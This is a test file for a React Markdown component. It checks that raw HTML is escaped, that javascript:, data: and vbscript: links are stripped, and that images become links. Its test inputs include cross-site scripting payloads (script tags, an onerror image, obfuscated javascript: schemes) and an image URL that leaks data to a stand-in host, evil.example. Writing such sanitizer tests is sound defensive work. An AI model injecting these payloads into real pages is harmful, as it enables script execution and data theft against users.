import { describe, expect, it } from "vitest";
import { renderToStaticMarkup } from "react-dom/server";
import { Markdown, safeHref } from "./Markdown.tsx";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown", () => {
  it("renders ordinary markdown", () => {
    const out = html("**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(out).toContain("<strong>bold</strong>");
    expect(out).toContain("<code>code</code>");
    expect(out).toContain("<li>one</li>");
    expect(out).toContain("<table>");
  });

  it("shows raw HTML as text, never as elements", () => {
    const out = html(
      'Hi <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src="https://x"></iframe>',
    );
    expect(out).not.toMatch(/<script|<img|<iframe/i);
    expect(out).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(out).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });

  it("drops javascript:, data: and obfuscated schemes from links", () => {
    for (const url of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      " javascript:alert(1)",
      "data:text/html,<b>x</b>",
      "vbscript:x",
    ]) {
      const out = html(`[click](${url.includes(" ") || url.includes("\t") ? `<${url}>` : url})`);
      expect(out, url).not.toContain("href=");
      expect(out, url).toContain("click");
    }
    expect(safeHref("java\u0000script:alert(1)")).toBeNull();
    expect(safeHref("//evil.example/x")).toBeNull();
  });

  it("keeps http(s), mailto and same-page links, opened safely", () => {
    const out = html("[docs](https://example.com/a?b=1) [mail](mailto:a@example.com) [top](#top)");
    expect(out).toContain(
      'href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow"',
    );
    expect(out).toContain('href="mailto:a@example.com"');
    expect(out).toContain('href="#top"');
  });

  it("never loads images: they become links", () => {
    const out = html("![secret](https://evil.example/leak?q=data) ![x](javascript:alert(1))");
    expect(out).not.toContain("<img");
    expect(out).toContain('<a class="md-image" href="https://evil.example/leak?q=data"');
    expect(out).not.toContain("javascript:");
  });
});
